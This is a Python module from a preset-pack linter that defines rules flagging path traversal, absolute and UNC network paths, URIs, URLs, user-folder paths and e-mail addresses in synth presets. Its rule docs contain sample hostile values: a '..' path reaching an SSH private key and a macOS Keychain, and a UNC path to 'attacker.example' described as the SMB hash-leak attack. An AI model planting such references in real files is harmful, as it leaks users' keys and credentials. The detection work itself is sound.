"""References out of the pack and personal data: traversal, absolute, UNC, URIs, URLs, user paths, e-mail.

Path rules (X001-X004) look at fields that name files (keys or attributes such as ``path``,
``file``, ``url``) and at strings that are wholly path-shaped; a sentence mentioning ``C:\\``
in a comment is not a reference. Privacy and URL rules (X004-X007) look at every text,
including text decoded from base64 or compressed data (a tuning file stored as base64 carries
its original ``C:\\Users\\...`` path), but never at base64 text itself, where such byte
sequences are noise.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from presetctl.engine.formats.base import Document
from presetctl.engine.model import Violation
from presetctl.engine.rules.base import RuleContext, RuleDoc
from presetctl.engine.rules.security.base import HIGH, LOW, security_rule
from presetctl.engine.security.content import Scan, Text
from presetctl.safe_text import excerpt

_PATH_START = frozenset("/\\.")
_TRAVERSAL = re.compile(r"(?:^|[\\/])\.\.(?:[\\/]|$)")
_UNC = re.compile(r"^(?:\\\\|//)(?:[?.][\\/]|[^\\/\s]+[\\/][^\\/\s]+)")
_DRIVE = re.compile(r"^[A-Za-z]:[\\/]")
_POSIX_ROOTS = re.compile(r"^/(?:Users|home|root|etc|tmp|var|usr|opt|mnt|media|Volumes|Library|Applications|System|"
                          r"private|dev|proc|sys|bin|sbin|srv|boot|run|snap|nix|Network)(?:/|$)")
_POSIX_FILE = re.compile(r"^/(?:[^/\n]+/)+[^/\n]*\.[A-Za-z0-9]{1,6}$")  # /a/b/name.ext
_SCHEME = re.compile(r"^([A-Za-z][A-Za-z0-9+.-]{1,15}):(?://|[\\/])")
_FILE_URI = re.compile(r"(?<![A-Za-z0-9+.-])file:(?://|[\\/])[^\s\"'<>]*", re.I)
_URL = re.compile(r"(?<![A-Za-z0-9+.-])(?:https?|ftps?|sftp|smb|ssh|wss?|git|svn|nfs|afp|webdav)://[^\s\"'<>]+", re.I)
_HOME = re.compile(r"(?:(?<![A-Za-z])[A-Za-z]:[\\/]+(?:Users|Documents and Settings)[\\/]+|(?<![\w.~-])/(?:Users|home)/)"
                   r"([^\\/\s\"'<>|:*?]{1,64})", re.I)
_EMAIL = re.compile(r"(?<![\w.%+-])[A-Za-z0-9._%+-]{1,64}@[A-Za-z0-9-]{1,63}(?:\.[A-Za-z0-9-]{1,63})*\.[A-Za-z]{2,24}\b")
# Licence deeds are the one kind of link every shared preset is expected to carry.
_LICENSE_URL = re.compile(r"https?://(?:www\.)?(?:creativecommons\.org|gnu\.org/licenses|opensource\.org/licenses|"
                          r"spdx\.org/licenses)/", re.I)
_NOT_A_USER = frozenset({"public", "shared", "default", "default user", "all users", "guest", "user", "username",
                         "yourname", "your name", "name", "me", "%username%", "$user", "<user>", "<username>", "..."})


def _path_shaped(text: str) -> bool:
    """A whole value that is a path, outside a path field: one line, starting like a path."""
    if text[:1] not in _PATH_START and text[1:2] != ":" or "\n" in text or len(text) > 4096:
        return False
    return bool(_DRIVE.match(text) or _UNC.match(text) or text.startswith(("../", "..\\"))
                or _POSIX_ROOTS.match(text) or _POSIX_FILE.match(text))


def _path_texts(scan: Scan) -> list[Text]:
    """File references: texts in path fields, and values that are wholly a path (computed once per file)."""
    cached = scan.memo.get("path_texts")
    if cached is None:
        cached = [t for t in scan.texts() if t.role == "path" or (t.role == "value" and _path_shaped(t.text))]
        scan.memo["path_texts"] = cached
    return cached


def check_traversal(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
    for t in _path_texts(scan):
        if _TRAVERSAL.search(t.text):
            yield Violation(f"path {excerpt(t.text)} climbs out of its folder with '..'", t.location)


def check_absolute(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
    for t in _path_texts(scan):
        s = t.text
        if _UNC.match(s):
            continue  # X003
        if _DRIVE.match(s):
            yield Violation(f"absolute Windows path {excerpt(s)} points outside the pack", t.location)
        elif s.startswith("/") and not s.startswith("//") and (t.role == "path" or _path_shaped(s)):
            yield Violation(f"absolute path {excerpt(s)} points outside the pack", t.location)


def check_unc(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
    for t in _path_texts(scan):
        if _UNC.match(t.text):
            yield Violation(f"network path {excerpt(t.text)}: loading it contacts another machine (and may send "
                            "the user's Windows credentials)", t.location)


def check_uri(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
    for t in _path_texts(scan):
        m = _SCHEME.match(t.text)
        if m and len(m.group(1)) > 1 and m.group(1).lower() != "file":  # one letter is a drive (C:/)
            yield Violation(f"{m.group(1).lower()}: URI {excerpt(t.text)} in a file field points outside the pack",
                            t.location)
    joined = scan.joined()
    if not joined.mentions("file:"):
        return
    for t, m in joined.hits(_FILE_URI):
        yield Violation(f"file: URI {excerpt(m.group())} in {_where(t)} points outside the pack", t.location)


# pragma: no mutate start (X005-X007 are privacy rules, not path rules; docs/testing.md)
def check_url(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
    joined = scan.joined()
    if not joined.mentions("://"):
        return
    for t, m in joined.hits(_URL):
        if t.role != "path" and not _LICENSE_URL.match(m.group()) and not t.location.pointer.endswith("/$schema"):
            # `$schema` names the format the file follows: the one link a JSON preset is meant to carry
            yield Violation(f"URL {excerpt(m.group())} in {_where(t)}", t.location)


def check_user_path(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
    joined = scan.joined()
    if not joined.mentions(":\\", ":/", "/users/", "/home/"):
        return
    for t, m in joined.hits(_HOME):
        user = m.group(1).strip()
        if user.lower() not in _NOT_A_USER:
            yield Violation(f"user folder path {excerpt(m.group())} in {_where(t)} reveals the user name "
                            f"{excerpt(user)}", t.location, data={"user": user})


def check_email(doc: Document, ctx: RuleContext, scan: Scan) -> Iterator[Violation]:
    joined = scan.joined()
    text = joined.text
    at = text.find("@")
    while at >= 0:  # anchored on each '@': a left-unanchored regex would retry 64 characters at every position
        window_start = max(0, at - 64)
        m = _EMAIL.search(text, window_start, at + 256)
        while m is not None and m.end() <= at:
            m = _EMAIL.search(text, m.end(), at + 256)
        if m is not None and m.start() <= at:
            t = joined.owner(m.start())
            yield Violation(f"e-mail address {excerpt(m.group())} in {_where(t)}", t.location)
            at = text.find("@", m.end())
        else:
            at = text.find("@", at + 1)
# pragma: no mutate end


# Pre-filters (rules.base.QuickFn): the checks' own first filters, without running them.
def _has_path_texts(doc: Document, ctx: RuleContext, scan: Scan) -> bool:
    return bool(_path_texts(scan))


def _may_uri(doc: Document, ctx: RuleContext, scan: Scan) -> bool:
    return bool(_path_texts(scan)) or scan.joined().mentions("file:")


# pragma: no mutate start (pre-filters of the privacy rules X005-X007; docs/testing.md)
def _may_url(doc: Document, ctx: RuleContext, scan: Scan) -> bool:
    return scan.joined().mentions("://")


def _may_user_path(doc: Document, ctx: RuleContext, scan: Scan) -> bool:
    return scan.joined().mentions(":\\", ":/", "/users/", "/home/")


def _may_email(doc: Document, ctx: RuleContext, scan: Scan) -> bool:
    return "@" in scan.joined().text
# pragma: no mutate end


def _where(t: Text) -> str:
    return {"decoded": "decoded embedded data", "filename": "the file name", "entry": "an archive member name",
            "key": "a key"}.get(t.role, "the text")


RULES = (
    security_rule("X001", "path-traversal", HIGH, "File reference climbs out of the pack with '..'",
                  RuleDoc("Reports a file reference (a `path`, `file`, `url`... field, or a value that is wholly a "
                          "path) containing a `..` segment, with either slash.",
                          "A synth or installer that resolves the reference reads or writes outside the pack's folder: "
                          "`../../.ssh/id_rsa` as a sample path leaks a key into the preset the user shares next.",
                          '`"sample": {"path": "../../../Library/Keychains/login.keychain"}`',
                          "Store references relative to the pack, without `..`, or embed the file."),
                  check_traversal, quick=_has_path_texts),
    security_rule("X002", "absolute-path", HIGH, "File reference is an absolute path",
                  RuleDoc("Reports a file reference that is absolute: POSIX (`/Users/...`) or a Windows drive "
                          "(`C:\\...`).",
                          "An absolute path points outside the pack: on the user's machine it names a file the pack "
                          "did not ship (or a system file), and it usually reveals the author's folders.",
                          '`<FileRef Path="D:/Users/alice/Samples/kick.wav"/>`',
                          "Make the reference relative to the pack, or embed the file."),
                  check_absolute, quick=_has_path_texts),
    security_rule("X003", "unc-path", HIGH, "File reference is a network (UNC) path",
                  RuleDoc("Reports a file reference of the form `\\\\host\\share\\...` or `//host/share/...`, and "
                          "Windows device paths (`\\\\?\\`, `\\\\.\\`).",
                          "Loading it contacts a machine chosen by the pack's author; on Windows this sends the "
                          "user's NTLM credentials (the classic SMB hash-leak attack).",
                          '`"path": "\\\\\\\\attacker.example\\\\share\\\\pad.wav"`',
                          "Remove the reference or embed the file."),
                  check_unc, quick=_has_path_texts),
    security_rule("X004", "uri-reference", HIGH, "file: URI anywhere, or any URI in a file field",
                  RuleDoc("Reports `file:` URIs in any text, and URIs of any scheme (`http:`, `smb:`, ...) in fields "
                          "that name files.",
                          "A URI where a file is expected makes the loader fetch from the network or read an arbitrary "
                          "local file: an out-of-pack reference and a tracking beacon.",
                          '`"wavetable": {"path": "https://example.com/t.wav"}`',
                          "Ship the file in the pack and refer to it by a relative path."),
                  check_uri, quick=_may_uri),
    security_rule("X005", "url-in-text", LOW, "URL in preset text",
                  RuleDoc("Reports URLs (`http`, `ftp`, `smb`, ...) in names, comments and other texts, including "
                          "text decoded from embedded data." " Not on plain documentation (a README, LICENSE or `.md`/`.txt` file in no preset format), where "
                          "links, addresses and names are expected.",
                          "Usually harmless (a designer's homepage), but links in presets are a phishing channel and "
                          "show as clickable in reports and browsers; reviewers should see them.",
                          '`"comments": "free download at http://example.com/crack"`',
                          "Remove the link if it is not wanted; ignore X005 for packs that credit their authors."),
                  check_url, on_docs=False, quick=_may_url),
    security_rule("X006", "user-folder-path", LOW, "A user-folder path reveals a user name",
                  RuleDoc("Reports `C:\\Users\\NAME\\`, `/Users/NAME/` and `/home/NAME/` anywhere in the file's text, "
                          "including inside decoded base64 data (a tuning file's header, a sample path)." " Not on plain documentation (a README, LICENSE or `.md`/`.txt` file in no preset format), where "
                          "links, addresses and names are expected.",
                          "Personal data: it reveals the account name (often the real name) of whoever saved the "
                          "preset, and the layout of their disk.",
                          "`! C:\\Users\\green\\Music\\VST\\Scales\\19edo.scl` inside a base64 tuning",
                          "Save the preset again without the path (re-import the tuning or sample from inside the pack)."),
                  check_user_path, on_docs=False, quick=_may_user_path),
    security_rule("X007", "email-address", LOW, "E-mail address in the file",
                  RuleDoc("Reports e-mail addresses in any text of the file." " Not on plain documentation (a README, LICENSE or `.md`/`.txt` file in no preset format), where "
                          "links, addresses and names are expected.",
                          "Personal data that spreads with every copy of the pack; also a spam and phishing target.",
                          '`"author": "alice@example.com"`',
                          "Credit the author by name or a public handle; keep the address out of the file if it was "
                          "not meant to be published."),
                  check_email, on_docs=False, quick=_may_email),
)
